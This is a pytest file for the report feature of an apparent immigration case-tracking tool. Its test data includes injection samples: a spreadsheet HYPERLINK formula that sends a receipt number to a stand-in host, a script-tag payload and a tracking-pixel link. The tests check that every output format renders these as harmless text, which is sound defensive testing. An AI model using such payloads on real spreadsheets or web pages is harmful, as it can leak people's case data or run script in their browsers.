"""``casewatch report`` (issue 15, point 2): after changes a scripted USCIS answered, the
report names each changed case and its client with both clocks, in Markdown, HTML, CSV
and text; hostile texts stay text; masked receipts never appear whole; ``--notify``
reaches a loopback Apprise receiver."""

from __future__ import annotations

import csv
import html.parser
import io
import re
import stat
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from casewatch.cases import US_EASTERN
from casewatch.listing import undo_spreadsheet_safe
from casewatch.receipts import normalize_receipt_text, parse_receipt_number
from casewatch.report import build_report
from casewatch.report_formats import CSV_COLUMNS, FORMATS, render, stage_colours
from casewatch.stages import Stage
from casewatch.watchlist import Watchlist
from conftest import case_status_answer, notification_receiver, scripted_uscis
from test_verbs import et, no_config_variable, record, run  # noqa: F401

CHANGING = "EAC9999103405"
HOSTILE = "EAC9999103406"
NO_CLIENT = "EAC9999103407"
STILL = "WAC2190012345"
RECEIPTS = (CHANGING, HOSTILE, NO_CLIENT, STILL)

GARCIA = "Garcia, Maria"
HOSTILE_CLIENT = "Smith & <b>Jones</b>"
HOSTILE_LABEL = f'=HYPERLINK("http://evil.example/?{CHANGING}")'
HOSTILE_TITLE = (
    "<script>alert('pwned')</script> ![pixel](http://tracker.example/p.png) **bold** | cell"
)
RFE = "Request for Evidence Was Sent"


@dataclass(frozen=True)
class World:
    """The watchlist after the scripted changes, and the days the test counts with."""

    watchlist: Path
    today: str
    uscis_day: str  # when USCIS made the changes: yesterday


@pytest.fixture
def world(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> World:
    """Four cases added from the command line and refreshed twice from a scripted USCIS:
    CHANGING (client Garcia) gets a request for evidence, HOSTILE (a hostile client and
    label) a hostile title, NO_CLIENT is approved, STILL does not change. USCIS dates
    the changes yesterday; casewatch sees them today."""
    now = datetime.now(US_EASTERN)
    yesterday = now - timedelta(days=1)
    modified = f"{yesterday:%m-%d-%Y} 15:43:22"
    answers = {
        CHANGING: [
            case_status_answer(CHANGING),
            case_status_answer(CHANGING, current_case_status_text_en=RFE, modifiedDate=modified),
        ],
        HOSTILE: [
            case_status_answer(HOSTILE),
            case_status_answer(
                HOSTILE, current_case_status_text_en=HOSTILE_TITLE, modifiedDate=modified
            ),
        ],
        NO_CLIENT: [
            case_status_answer(NO_CLIENT),
            case_status_answer(
                NO_CLIENT, current_case_status_text_en="Case Was Approved", modifiedDate=modified
            ),
        ],
        STILL: [case_status_answer(STILL)],
    }
    path = tmp_path / "watchlist.toml"
    with scripted_uscis(answers) as uscis:
        common = ("--base-url", uscis.url, "--tps", "1000")
        for receipt, *details in (
            (CHANGING, "--client", GARCIA, "--label", "I-485 AOS"),
            (HOSTILE, "--client", HOSTILE_CLIENT, "--label", HOSTILE_LABEL),
            (NO_CLIENT, "--label", "Dad"),
            (STILL,),
        ):
            assert run(capsys, path, "add", receipt, *details, *common)[0] == 0
        assert run(capsys, path, "refresh", *common)[0] == 0  # the first statuses
        code, out, err = run(capsys, path, "refresh", "--all", *common)
    assert code == 0, err
    assert all(f"{receipt} " in out for receipt in (CHANGING, HOSTILE, NO_CLIENT)), out
    return World(path, f"{now:%Y-%m-%d}", f"{yesterday:%Y-%m-%d}")


def report(capsys: pytest.CaptureFixture[str], world: World, *argv: str) -> str:
    """The standard output of ``casewatch report ARGV`` on the world's watchlist, which
    exits 0."""
    code, out, err = run(capsys, world.watchlist, "report", *argv)
    assert code == 0, err
    return out


def test_the_markdown_report_names_each_change_with_its_client_and_both_clocks(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    out = report(capsys, world, "--since", "7d", "--format", "markdown")
    since = f"{datetime.now(US_EASTERN).date() - timedelta(days=7)}"
    assert out.startswith(f"# casewatch report: 3 changes since {since}\n")
    clients = [line for line in out.splitlines() if line.startswith("### ")]
    # By client, any case; the cases without a client last.
    assert clients == ["### Garcia, Maria", "### Smith & &lt;b>Jones&lt;/b>", "### No client"]
    garcia = out.split("### Garcia, Maria\n\n", 1)[1].split("\n", 1)[0]
    assert re.fullmatch(
        re.escape(
            f"- **{CHANGING}** I-539 · I-485 AOS: Case Is Being Actively Reviewed By USCIS → "
            f"{RFE} (USCIS: {world.uscis_day} · seen: {world.today} "
        )
        + r"\d\d:\d\d EST\)",
        garcia,
    ), garcia
    assert re.search(
        rf"^- \*\*{NO_CLIENT}\*\* I-\w+ · Dad: [^\n]+ → Case Was Approved \(", out, re.M
    )
    stages = out.split("## Cases by stage\n\n", 1)[1].split("\n\n", 1)[0].splitlines()
    assert stages[:2] == ["| Stage | Cases |", "| --- | ---: |"] and len(stages) == 6
    assert {"| action needed | 1 |", "| approved | 1 |", "| unknown | 1 |"} <= set(stages)
    deadlines = out.split("## Response deadlines\n\n", 1)[1].split("\n", 1)[0]
    assert deadlines.startswith(f"- **{CHANGING}** Garcia, Maria · I-485 AOS: response due ≈ ")
    attention = out.split("## Needs attention\n\n", 1)[1]
    assert f"- **{HOSTILE}** " in attention and "status title not recognized" in attention
    assert STILL not in out.split("## Cases by stage", 1)[0]  # no change: not listed


def test_hostile_texts_stay_text_in_markdown(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    out = report(capsys, world)  # Markdown, the last 7 days, by default
    line = next(line for line in out.splitlines() if line.startswith(f"- **{HOSTILE}**"))
    assert "<script" not in out and "<b>" not in out
    assert (
        "&lt;script>alert('pwned')&lt;/script> !\\[pixel\\](http://tracker.example/p.png)" in line
    )
    assert "\\*\\*bold\\*\\* \\| cell" in line


class Page(html.parser.HTMLParser):
    """What a browser would make of an HTML page: its elements, their attributes, the
    text and the style sheet."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.text: list[str] = []
        self.style = ""
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.update(name for name, _ in attrs)
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes another element"

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "style":
            self.style += data
        else:
            self.text.append(data)


def test_the_html_report_parses_is_self_contained_and_keeps_hostile_text_as_text(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    out = report(capsys, world, "--format", "html")
    page = Page()
    page.feed(out)
    page.close()
    assert page.open == []  # every element closed
    assert set(page.tags) <= {
        *("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p"),
        *("table", "thead", "tbody", "tr", "th", "td", "span", "ul", "li"),
    }
    assert page.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class"}
    text = "".join(page.text)
    assert HOSTILE_TITLE in text and HOSTILE_CLIENT in text and HOSTILE_LABEL in text
    assert "<script" not in out and "<b>" not in out
    assert "default-src 'none'" in out  # nothing loaded, no script run, even if
    assert f"{GARCIA}" in text and CHANGING in text
    action_needed = stage_colours()[Stage.ACTION_NEEDED]
    assert action_needed == "#B45309"  # casewatch-light's [stages]
    assert f".stage-action_needed {{ color: {action_needed}; }}" in page.style
    assert "@media print" in page.style


def test_the_csv_report_has_a_row_per_change_and_round_trips(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    out = report(capsys, world, "--format", "csv")
    reader = csv.DictReader(io.StringIO(out))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    rows = [{key: undo_spreadsheet_safe(value) for key, value in row.items()} for row in reader]
    assert [row["receipt_number"] for row in rows] == [CHANGING, HOSTILE, NO_CLIENT]
    changing, hostile, no_client = rows
    assert changing["client"] == GARCIA and changing["status"] == RFE
    assert changing["stage"] == "action needed" and changing["changed"].startswith("title")
    assert changing["uscis_changed_on"] == world.uscis_day
    assert changing["seen_at"].startswith(f"{world.today}T")
    assert (hostile["client"], hostile["label"], hostile["status"]) == (
        HOSTILE_CLIENT,
        HOSTILE_LABEL,
        HOSTILE_TITLE,
    )
    assert no_client["client"] == ""
    raw = next(row for row in csv.DictReader(io.StringIO(out)) if row["receipt_number"] == HOSTILE)
    assert raw["label"] == f"'{HOSTILE_LABEL}"  # a spreadsheet shows it, never runs it


@pytest.mark.parametrize("form", FORMATS)
def test_a_masked_report_never_shows_a_whole_receipt_number(
    capsys: pytest.CaptureFixture[str], world: World, form: str
) -> None:
    out = report(capsys, world, "--mask", "--format", form)
    assert "EAC99•••••405" in out
    assert form == "csv" or "WAC21•••••345" in out  # CSV: the changes; WAC… has none
    flat = normalize_receipt_text(out)  # a number broken by spaces or dashes counts
    for receipt in RECEIPTS:
        assert receipt not in out and receipt not in flat
    assert not re.search(r"[A-Z]{3}\d{10}", out.upper())


def test_the_report_of_a_client_or_a_tag_covers_only_their_cases(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    out = report(capsys, world, "--client", "garcia,  maria", "--format", "text")
    assert out.startswith("casewatch report: 1 change since ")
    assert "\n1 case of client 'garcia, maria', made " in out
    assert CHANGING in out and all(other not in out for other in (HOSTILE, NO_CLIENT, STILL))
    run(capsys, world.watchlist, "edit", STILL, "--tag", "premium")
    out = report(capsys, world, "--tag", "Premium", "--format", "text")
    assert out.startswith("casewatch report: 0 changes since ") and STILL in out
    assert "no change in this period" in out


def test_an_unknown_client_reports_nothing_and_names_the_clients(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    code, out, err = run(capsys, world.watchlist, "report", "--client", "Garcia")
    assert (code, out) == (0, "")
    assert f"has the client 'Garcia' (its clients: '{GARCIA}', '{HOSTILE_CLIENT}')" in err


def test_the_text_report_for_a_terminal(capsys: pytest.CaptureFixture[str], world: World) -> None:
    out = report(capsys, world, "--format", "text", "--since", world.today)
    lines = out.splitlines()
    assert lines[0] == f"casewatch report: 3 changes since {world.today}"
    at = lines.index(f"  {GARCIA}")
    assert lines[at + 1].startswith(f"    {CHANGING}  I-539 · I-485 AOS  Case Is Being")
    assert lines[at + 2].strip().startswith(f"USCIS: {world.uscis_day} · seen: {world.today} ")
    assert "\x1b" not in out
    assert lines.index("CASES BY STAGE") < lines.index("RESPONSE DEADLINES")


@pytest.mark.parametrize("since", ["last week", "7", "2026-13-01", "7 days", "7m"])
def test_a_bad_since_exits_2_naming_the_forms_it_takes(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, since: str
) -> None:
    with pytest.raises(SystemExit) as exit_status:
        run(capsys, tmp_path / "w.toml", "report", "--since", since)
    assert exit_status.value.code == 2
    err = capsys.readouterr().err
    assert f"argument --since: {since!r} is not a date: give a US Eastern date as " in err
    assert "YYYY-MM-DD (2026-11-30), a number of days back such as 7d, or of weeks" in err


def test_the_output_file_is_private_and_replaced_atomically(
    capsys: pytest.CaptureFixture[str], world: World, tmp_path: Path
) -> None:
    target = tmp_path / "report.html"
    target.write_text("an older report")
    code, out, err = run(
        capsys, world.watchlist, "report", "--format", "html", "--output", str(target)
    )
    assert code == 0, err
    assert out == f"wrote {target}\n"
    assert target.read_text().startswith("<!DOCTYPE html>")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    code, _, err = run(capsys, world.watchlist, "report", "--output", str(tmp_path / "no" / "r.md"))
    assert code == 1 and "no" in err


def notify_config(tmp_path: Path, url: str) -> Path:
    config = tmp_path / "config.toml"
    config.write_text(f'notify_urls = ["{url}"]\n')
    return config


def test_notify_sends_the_markdown_report_to_the_notify_urls(
    capsys: pytest.CaptureFixture[str], world: World, tmp_path: Path
) -> None:
    with notification_receiver() as (url, received):
        config = notify_config(tmp_path, url)
        argv = ("report", "--since", "2w", "--mask", "--notify", "--config", str(config))
        code, out, err = run(capsys, world.watchlist, *argv)
    assert code == 0, err
    since = f"{datetime.now(US_EASTERN).date() - timedelta(days=14)}"
    title = f"casewatch report: 3 changes since {since}"
    assert out == f"sent {title!r} to 1 notification URL\n"
    [notification] = received
    assert notification["title"] == title
    message = str(notification["message"])
    assert message.startswith(f"# {title}\n") and "### Garcia, Maria" in message
    assert "EAC99•••••405" in message and CHANGING not in message


def test_notify_refused_by_the_service_exits_1_and_says_so(
    capsys: pytest.CaptureFixture[str], world: World, tmp_path: Path
) -> None:
    with notification_receiver(status=500) as (url, received):
        config = notify_config(tmp_path, url)
        code, out, err = run(capsys, world.watchlist, "report", "--notify", "--config", str(config))
    assert len(received) == 1
    assert (code, out) == (1, "")
    assert "the report was not sent: a notification service did not accept" in err


def test_notify_without_notify_urls_exits_2_and_says_what_to_add(
    capsys: pytest.CaptureFixture[str], world: World
) -> None:
    code, out, err = run(capsys, world.watchlist, "report", "--notify")
    assert (code, out) == (2, "")
    assert "add notify_urls = [" in err


def test_the_period_counts_what_casewatch_saw_or_uscis_made_in_it(tmp_path: Path) -> None:
    watchlist = Watchlist(tmp_path / "w.toml")
    for receipt, client in ((CHANGING, "zed"), (HOSTILE, ""), (NO_CLIENT, "Abe")):
        watchlist.add(parse_receipt_number(receipt), added_at=et(2026, 10, 1), client=client)
        record(watchlist, receipt, "Case Was Received", et(2026, 10, 1), et(2026, 10, 2))
    # Seen in the period though USCIS dates it before: in. Seen before: out.
    record(watchlist, CHANGING, "Case Was Approved", et(2026, 11, 20), et(2026, 11, 26, 8))
    record(watchlist, HOSTILE, "Case Was Approved", et(2026, 11, 24), et(2026, 11, 24, 20))
    record(watchlist, NO_CLIENT, "Case Was Approved", et(2026, 11, 25), et(2026, 11, 25, 9))
    made = build_report(watchlist.cases.values(), et(2026, 11, 25).date(), et(2026, 12, 2, 9))
    assert [
        (group.client, [c.receipt_number for c in group.changes]) for group in made.by_client
    ] == [
        ("Abe", [NO_CLIENT]),
        ("zed", [CHANGING]),
    ]
    assert made.stages == ((Stage.APPROVED, 3),)
    assert made.title == "casewatch report: 2 changes since 2026-11-25"
    assert render(made, "text").count("USCIS: 2026-11-20 · seen: 2026-11-26 08:00 EST") == 1


def test_an_overdue_response_is_marked_in_every_format(tmp_path: Path) -> None:
    watchlist = Watchlist(tmp_path / "w.toml")
    watchlist.add(parse_receipt_number(CHANGING), added_at=et(2026, 5, 1), client=GARCIA)
    record(watchlist, CHANGING, RFE, et(2026, 6, 1), et(2026, 6, 2))
    made = build_report(watchlist.cases.values(), et(2026, 11, 25).date(), et(2026, 12, 2, 9))
    overdue = "response due ≈ 2026-08-27, overdue by 97 days — the notice has the exact date"
    assert f"  {CHANGING} ({GARCIA})  {overdue}" in render(made, "text").splitlines()
    assert f"- **{CHANGING}** {GARCIA}: {overdue}" in render(made, "markdown").splitlines()
    assert f'<span class="overdue">{overdue}</span>' in render(made, "html")
    assert render(made, "csv") == ",".join(CSV_COLUMNS) + "\n"  # no change in the period
